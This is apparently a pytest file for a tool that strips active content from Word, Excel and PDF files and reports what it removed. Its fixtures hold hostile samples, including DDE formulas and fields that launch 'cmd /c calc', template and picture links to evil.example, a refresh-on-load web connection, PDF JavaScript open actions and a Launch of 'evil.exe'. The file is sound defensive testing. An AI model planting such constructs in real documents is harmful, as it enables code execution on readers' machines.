"""The copy of a hostile paper fetches and starts nothing, and says what was taken out of it, where, how often."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import docx
import openpyxl
import pytest
from docx.document import Document
from docx.oxml.ns import nsdecls, qn
from docx.oxml.parser import parse_xml
from lxml import etree
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from inlimine.exports.annotate.formats import pdf, word, workbook
from inlimine.exports.annotate.note import Note, Parcel, Tone, Written, packed
from inlimine.exports.annotate.plain import as_workbook
from inlimine.exports.annotate.workbook.live import live
from tests.exports.papers import noted, opened, printed, saved

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def idled(made: Written) -> list[tuple[str, str, int]]:
    return [(one.what, one.where, one.count) for one in made.idled]


def back(document: Document, *, read: str = "the producer signed") -> Written:
    return word.annotate("opening.docx", packed(noted(saved(document), read, "producer")))


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        return {name: file.read(name) for name in file.namelist()}


def zipped(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name, data in files.items():
            file.writestr(name, data)
    return out.getvalue()


def paper() -> Document:
    document = docx.Document()
    document.add_paragraph("the producer signed")
    return document


# --- Word ---


def test_templates_pictures_and_files_elsewhere_are_let_go_and_a_web_link_stays() -> None:
    document = paper()
    part: Any = document.part
    picture = part.relate_to("http://evil.example/p.png", f"{REL}/image", is_external=True)
    other = part.relate_to("file://server/share/x.docx", f"{REL}/hyperlink", is_external=True)
    web = part.relate_to("https://court.example/docket", f"{REL}/hyperlink", is_external=True)
    chosen = part.part_related_by(f"{REL}/settings")
    template = chosen.relate_to("http://evil.example/t.dotm", f"{REL}/attachedTemplate", is_external=True)
    document.settings.element.insert(0, parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{template}"/>'))
    run = document.paragraphs[0].runs[0]._r
    run.addnext(
        parse_xml(f'<w:r {nsdecls("w", "a", "r")}><w:drawing><a:blip r:link="{picture}"/></w:drawing></w:r>')
    )
    for rel, words in ((other, "a file"), (web, "the docket")):
        link = f'<w:hyperlink {nsdecls("w", "r")} r:id="{rel}"><w:r><w:t>{words}</w:t></w:r></w:hyperlink>'
        document.paragraphs[0]._p.append(parse_xml(link))
    made = back(document)
    assert sorted(idled(made)) == [
        ("link to another file", "document", 1),
        ("picture kept elsewhere", "document", 1),
        ("template kept elsewhere", "settings", 1),
    ]
    assert not [name for name, data in members(made.data).items() if b"evil" in data or b"server/share" in data]
    again = opened(made.data)
    assert again.paragraphs[0].text == "the producer signeda filethe docket"
    assert [each.get(qn("r:id")) for each in again.element.body.iter(qn("w:hyperlink"))] == [None, web]


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def typed(words: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{words}</w:instrText></w:r>'


def a_field(instruction: str, shows: str = "shown") -> str:
    return f"{mark('begin')}{instruction}{mark('separate')}<w:r><w:t>{shows}</w:t></w:r>{mark('end')}"


@pytest.mark.parametrize(
    ("instruction", "told"),
    [
        (typed(r"DDEAUTO c:\\x cmd"), "DDEAUTO"),
        (typed(" DD") + typed("E x y"), "DDE"),
        (typed('INCLUDEPICTURE "http://evil.example/p"'), "INCLUDEPICTURE"),
        (typed(r'HYPERLINK "\\server\share"'), "HYPERLINK"),
        (a_field(typed("QUOTE 68 68 69")) + typed(" c:"), "put together by other fields"),
        (typed("PAGE"), ""),
        (typed('HYPERLINK "https://court.example"'), ""),
        (typed(r'HYPERLINK \l "chapter"'), ""),
        (typed("MACROBUTTON NoMacro [client]"), ""),
        (typed("IF ") + a_field(typed("PAGE")) + typed(" = 1"), ""),
    ],
)
def test_a_field_that_fetches_or_starts_something_becomes_what_it_showed(instruction: str, told: str) -> None:
    document = paper()
    document.element.body.insert(0, parse_xml(f"<w:p {nsdecls('w')}>{a_field(instruction)}</w:p>"))
    made = back(document)
    said = f"field that fetches or starts something ({told})"
    assert idled(made) == ([(said, "document", 1)] if told else [])
    first = opened(made.data).paragraphs[0]
    assert first.text.endswith("shown")
    live_marks = [each.text for each in first._p.iter(qn("w:instrText")) if each.text]
    assert bool(live_marks) != bool(told) or told.startswith("put")


def test_a_simple_field_in_a_footer_becomes_its_words() -> None:
    document = paper()
    simple = f'<w:fldSimple {nsdecls("w")} w:instr="INCLUDETEXT x"><w:r><w:t>page foot</w:t></w:r></w:fldSimple>'
    document.sections[0].footer.paragraphs[0]._p.append(parse_xml(simple))
    made = back(document)
    assert idled(made) == [("field that fetches or starts something (INCLUDETEXT)", "footer1", 1)]
    assert opened(made.data).sections[0].footer.paragraphs[0].text == "page foot"


# --- workbooks ---


@pytest.mark.parametrize(
    ("formula", "word"),
    [
        ("cmd|'/c calc'!A0", "DDE"),
        ('HYPERLINK("http://x","y")', "HYPERLINK"),
        ("1+_xlfn.WEBSERVICE(A1)", "WEBSERVICE"),
        ("[1]Sheet1!A1*2", "another workbook"),
        (r"'C:\x\[Book.xlsx]Sheet 1'!A1", "another workbook"),
        ("SUM(A1:A3)", ""),
        ('IF(A1="HYPERLINK(x)|y",1,2)', ""),
        ("SUM(Table1[2020])+Table1[[#This Row],[A]]", ""),
        ("'A|B'!A1", ""),
        ("MYCALL(1)", ""),
    ],
)
def test_a_formula_that_reaches_out_of_the_workbook_is_told_from_one_that_counts(formula: str, word: str) -> None:
    assert live(formula) == word


def book() -> bytes:
    made = openpyxl.Workbook()
    sheet: Any = made.worksheets[0]
    sheet.title = "List"
    for row in (("No.", "What"), ("1", "=SUM(1,2)"), ("2", "=WEBSERVICE(A1)"), ("3", "=cmd|'/c calc'!A0")):
        sheet.append(row)
    sheet["A4"].hyperlink = "file://server/share/x.xlsx"
    sheet["A2"].hyperlink = "https://court.example/1"
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def listed(data: bytes) -> Written:
    note = Note(start=0, end=1, words="=1+1", tone=Tone.STOP, head="=cmd|x!A0", body="=1", cell="List!A2")
    return workbook.annotate("list.xlsx", packed(Parcel(paper=data, ink="", notes=(note,))))


def test_formulas_that_reach_out_become_words_and_those_that_count_stay() -> None:
    made = listed(book())
    assert idled(made) == [
        ("formula that reaches out of the workbook (WEBSERVICE)", "List!B3", 1),
        ("formula that reaches out of the workbook (DDE)", "List!B4", 1),
        ("link to another file", "sheet1", 1),
    ]
    sheet = openpyxl.load_workbook(io.BytesIO(made.data))["List"]
    assert [(cell.value, cell.data_type) for cell in sheet["B"]] == [
        ("What", "s"),
        ("=SUM(1,2)", "f"),
        ("WEBSERVICE(A1)", "s"),
        ("cmd|'/c calc'!A0", "s"),
    ]
    assert [cell.hyperlink and cell.hyperlink.target for cell in sheet["A"]] == [
        None, "https://court.example/1", None, None,
    ]  # fmt: skip


def test_what_we_write_is_never_a_formula() -> None:
    assert openpyxl.load_workbook(io.BytesIO(listed(book()).data))["List"]["C2"].data_type == "s"
    sheet = openpyxl.load_workbook(io.BytesIO(as_workbook("No.,What\n1,=cmd|x!A0\n+1,@SUM(1)\n"))).worksheets[0]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s"}
    assert sheet["B2"].value == "=cmd|x!A0"


def test_workbooks_and_data_elsewhere_are_let_go() -> None:
    files = members(book())
    link = f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    files["xl/externalLinks/externalLink1.xml"] = link.encode()
    told = 'id="1" name="q" refreshOnLoad="1"><webPr url="http://evil.example"/></connection>'
    files["xl/connections.xml"] = f'<connections xmlns="{MAIN}"><connection {told}</connections>'.encode()
    rels = etree.fromstring(files["xl/_rels/workbook.xml.rels"])
    for number, (kind, target) in enumerate(
        (("externalLink", "externalLinks/externalLink1.xml"), ("connections", "connections.xml"))
    ):
        etree.SubElement(rels, f"{{{PACKAGE}}}Relationship", Id=f"rX{number}", Type=f"{REL}/{kind}", Target=target)
    files["xl/_rels/workbook.xml.rels"] = etree.tostring(rels)
    root = etree.fromstring(files["xl/workbook.xml"])
    above = etree.SubElement(root, f"{{{MAIN}}}externalReferences")
    etree.SubElement(above, f"{{{MAIN}}}externalReference").set(f"{{{REL}}}id", "rX0")
    files["xl/workbook.xml"] = etree.tostring(root)
    made = listed(zipped(files))
    assert idled(made)[2:4] == [
        ("workbook or program linked from elsewhere", "workbook", 1),
        ("connection to data elsewhere", "the connection q", 1),
    ]
    left = members(made.data)
    assert "xl/externalLinks/externalLink1.xml" not in left
    assert not [name for name, data in left.items() if b"evil" in data or b"externalReference" in data]


# --- PDF ---


def action(kind: str, **more: str) -> DictionaryObject:
    told = {NameObject("/S"): NameObject(kind)}
    return DictionaryObject(told | {NameObject(f"/{key}"): TextStringObject(value) for key, value in more.items()})


def marked(kind: str, **more: Any) -> DictionaryObject:
    told = {
        "/Type": NameObject("/Annot"),
        "/Subtype": NameObject(kind),
        "/Rect": ArrayObject([NumberObject(0)] * 4),
    }
    told |= {f"/{key}": value for key, value in more.items()}
    return DictionaryObject({NameObject(key): value for key, value in told.items()})


def test_what_a_pdf_starts_or_fetches_is_taken_out_and_a_turn_to_a_page_stays() -> None:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(printed(["the producer signed"], ["second"]))))
    script = writer._add_object(action("/JavaScript", JS="app.alert('evil')"))
    writer.root_object[NameObject("/OpenAction")] = script
    writer.add_attachment("evil.exe", b"evil bytes")
    writer.add_annotation(0, marked("/Link", A=action("/URI", URI="http://evil.example")))
    writer.add_annotation(0, marked("/Link", A=action("/Launch", F="evil.exe")))
    writer.add_annotation(1, marked("/FileAttachment", Contents=TextStringObject("evil")))
    turn = action("/GoTo")
    turn[NameObject("/Next")] = script
    writer.add_annotation(1, marked("/Link", A=turn))
    writer.pages[1][NameObject("/AA")] = DictionaryObject({NameObject("/O"): script})
    out = io.BytesIO()
    writer.write(out)
    made = pdf.annotate("opening.pdf", packed(noted(out.getvalue(), "the producer signed second", "producer")))
    assert sorted(idled(made)) == [
        ("action on opening", "the paper", 1),
        ("action that starts by itself", "page 2", 1),
        ("file in the paper", "the paper", 1),
        ("file or recording in the paper", "page 2", 1),
        ("link to an address", "page 1", 1),
        ("script", "page 2", 1),
        ("start of a program", "page 1", 1),
    ]
    assert not [word for word in (b"evil", b"JavaScript", b"/Launch", b"/URI") if word in made.data]
    kinds = [
        each.get_object().get("/A", {}).get("/S")
        for page in PdfReader(io.BytesIO(made.data)).pages
        for each in page["/Annots"]  # type: ignore[attr-defined]
        if each.get_object()["/Subtype"] == "/Link"
    ]
    assert kinds == [None, None, "/GoTo"]


def test_the_page_on_which_a_pdf_opens_stays_and_is_not_told() -> None:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(printed(["the producer signed"]))))
    place = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
    writer.root_object[NameObject("/OpenAction")] = place
    out = io.BytesIO()
    writer.write(out)
    made = pdf.annotate("opening.pdf", packed(noted(out.getvalue(), "the producer signed", "producer")))
    root: Any = PdfReader(io.BytesIO(made.data)).trailer["/Root"]
    assert (idled(made), root["/OpenAction"][1]) == ([], "/Fit")
